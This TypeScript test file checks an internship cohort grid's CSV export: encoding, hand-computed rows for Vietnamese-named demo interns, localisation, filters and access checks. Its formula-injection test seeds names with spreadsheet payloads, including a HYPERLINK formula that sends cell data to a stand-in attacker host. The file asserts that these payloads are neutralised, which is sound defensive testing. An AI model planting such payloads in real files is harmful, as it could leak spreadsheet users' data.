// The cohort grid as CSV: the demo cohort's rows worked out by hand, the same filter as the page,
// a file that spreadsheet programs open with Vietnamese names intact, and no formula injection.
import { beforeAll, describe, expect, it } from "vitest";
import { NotFoundError } from "@/lib/server/data/errors";
import { exportCohortGridCsv } from "@/lib/server/data/grid";
import { viewerById, type Viewer } from "@/lib/server/data/viewer";
import { DEFAULT_GRID_FILTER, parseGridFilter } from "@/lib/schemas/cohort";
import { translatorFor } from "@/lib/i18n/translator";
import { csvWords, neutraliseFormula } from "@/lib/worklog/grid-csv";
import { createCohortWithWeeks, createMentor, seedDemo } from "../factories";

const TODAY = "2026-11-25";
const HEADER =
  "Intern,Email,Week,Week start,Week end,Extended until,Status,Tasks done,Tasks planned,Progress %,Behind,Submitted at,Approved at";

let mentor: Viewer;
let cohortId: string;

beforeAll(async () => {
  ({ mentor, cohortId } = await seedDemo(TODAY));
});

const exportCsv = (query = "", viewer = mentor, id = cohortId) =>
  exportCohortGridCsv(viewer, id, parseGridFilter(new URLSearchParams(query)), { today: TODAY });

/** The lines of the file after the byte-order mark. */
const linesOf = (csv: string) => csv.slice(1).split("\r\n").slice(0, -1);

describe("the demo cohort as CSV", () => {
  it("is UTF-8 with a byte-order mark, CRLF lines, one line per intern and week", async () => {
    const { csv, filename } = await exportCsv();
    expect(filename).toBe("fcj-cloud-internship-demo-cohort-2026-11-25.csv");
    expect([...Buffer.from(csv, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.endsWith("\r\n")).toBe(true);
    const lines = linesOf(csv);
    expect(lines[0]).toBe(HEADER);
    expect(lines).toHaveLength(1 + 3 * 12);
    expect(lines.filter((l) => l.startsWith("Nguyễn Văn An,"))).toHaveLength(12);
  });

  it("holds the numbers worked out by hand (times in the program's zone, Asia/Ho_Chi_Minh)", async () => {
    const lines = linesOf((await exportCsv()).csv);
    // Sorted by name as on the page: Châu, An, Bình; each by week.
    expect(lines.slice(1, 6)).toEqual([
      "Lê Minh Châu,intern3@example.com,1,2026-10-26,2026-11-01,,Submitted,8,10,80,yes,2026-11-02 01:00,",
      "Lê Minh Châu,intern3@example.com,2,2026-11-02,2026-11-08,,Draft,3,7,42,yes,,",
      "Lê Minh Châu,intern3@example.com,3,2026-11-09,2026-11-15,,Draft,0,7,0,yes,,",
      "Lê Minh Châu,intern3@example.com,4,2026-11-16,2026-11-22,,Not started,0,0,0,no,,",
      "Lê Minh Châu,intern3@example.com,5,2026-11-23,2026-11-29,,Not started,0,0,0,no,,",
    ]);
    expect(lines.slice(13, 18)).toEqual([
      "Nguyễn Văn An,intern@example.com,1,2026-10-26,2026-11-01,,Approved,10,10,100,no,2026-11-02 01:00,2026-11-02 16:00",
      "Nguyễn Văn An,intern@example.com,2,2026-11-02,2026-11-08,,Approved,7,7,100,no,2026-11-09 01:00,2026-11-09 16:00",
      "Nguyễn Văn An,intern@example.com,3,2026-11-09,2026-11-15,,Submitted,6,7,85,yes,2026-11-16 01:00,",
      "Nguyễn Văn An,intern@example.com,4,2026-11-16,2026-11-22,,Draft,5,9,55,yes,,",
      "Nguyễn Văn An,intern@example.com,5,2026-11-23,2026-11-29,,Draft,2,12,16,no,,",
    ]);
    expect(lines[25 + 2]).toBe(
      "Trần Thị Bình,intern2@example.com,3,2026-11-09,2026-11-15,,Changes requested,5,7,71,yes,2026-11-16 01:00,",
    );
  });

  it("is written in the reader's language: Vietnamese headers, statuses and yes/no", async () => {
    const words = csvWords(translatorFor("vi"));
    const { csv } = await exportCohortGridCsv(mentor, cohortId, DEFAULT_GRID_FILTER, { today: TODAY, words });
    const lines = linesOf(csv);
    expect(lines[0]).toBe(words.columns.join(","));
    expect(lines[0]).toMatch(/^Thực tập sinh,Email,Tuần,/);
    expect(lines[1]).toBe(
      "Lê Minh Châu,intern3@example.com,1,2026-10-26,2026-11-01,,Đã nộp,8,10,80,có,2026-11-02 01:00,",
    );
    expect(lines[27]).toContain(",Cần chỉnh sửa,");
  });

  it("follows the page's filter: only the matching weeks, of the matching interns, in the page's order", async () => {
    expect(
      linesOf((await exportCsv("status=submitted")).csv)
        .slice(1)
        .map((l) => l.split(",").slice(0, 3).join(" ")),
    ).toEqual([
      "Lê Minh Châu intern3@example.com 1",
      "Nguyễn Văn An intern@example.com 3",
      "Trần Thị Bình intern2@example.com 2",
    ]);
    expect(
      linesOf((await exportCsv("status=submitted&behind=1&sort=progress-desc")).csv)
        .slice(1)
        .map((l) => l.split(",")[0]),
    ).toEqual(["Nguyễn Văn An", "Lê Minh Châu"]);
    const bình = linesOf((await exportCsv("q=binh")).csv);
    expect(bình).toHaveLength(1 + 12);
    expect(bình.slice(1).every((l) => l.startsWith("Trần Thị Bình,"))).toBe(true);
    expect(linesOf((await exportCsv("q=nobody")).csv)).toEqual([HEADER]);
  });
});

describe("formula injection", () => {
  it("writes cells that a spreadsheet would run as text, with a leading apostrophe", async () => {
    const names = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+SUM(1,2)",
      "-2+3",
      "@cmd",
      "\tTabbed",
      "\rReturn",
      "Đặng Thu Hà",
      "Line\nbreak",
    ];
    const { cohort } = await createCohortWithWeeks({
      interns: names.length,
      weeks: 1,
      mentorIds: [mentor.id],
      internName: (i) => names[i]!,
    });
    const { csv } = await exportCsv("", mentor, cohort.id);
    const body = csv.slice(1);
    for (const cell of [
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
      `"'+SUM(1,2)"`,
      `'-2+3,`,
      `'@cmd,`,
      `'\tTabbed,`,
      `"'\rReturn"`,
      `Đặng Thu Hà,`,
      `"Line\nbreak"`,
    ]) {
      expect(body).toContain(cell);
    }
    // No line starts a cell with a formula character.
    expect(body).not.toMatch(/(^|,|\r\n|")[=+@\t]/);
    // Numbers are written as numbers (a negative one would not be touched either).
    expect(body).toContain(",1,2026-01-05,2026-01-11,,Draft,0,3,0,");
  });

  it("leaves ordinary text alone", () => {
    expect(neutraliseFormula("Nguyễn Văn An")).toBe("Nguyễn Văn An");
    expect(neutraliseFormula("a=b")).toBe("a=b");
    expect(neutraliseFormula("=1+1")).toBe("'=1+1");
    expect(neutraliseFormula("")).toBe("");
  });
});

describe("access", () => {
  it("a mentor of another cohort gets NotFoundError, as for a cohort that does not exist", async () => {
    const other = await createMentor({ cohortIds: [] });
    await expect(exportCsv("", (await viewerById(other.id))!)).rejects.toBeInstanceOf(NotFoundError);
    await expect(exportCohortGridCsv(mentor, "nope", DEFAULT_GRID_FILTER)).rejects.toBeInstanceOf(NotFoundError);
  });
});
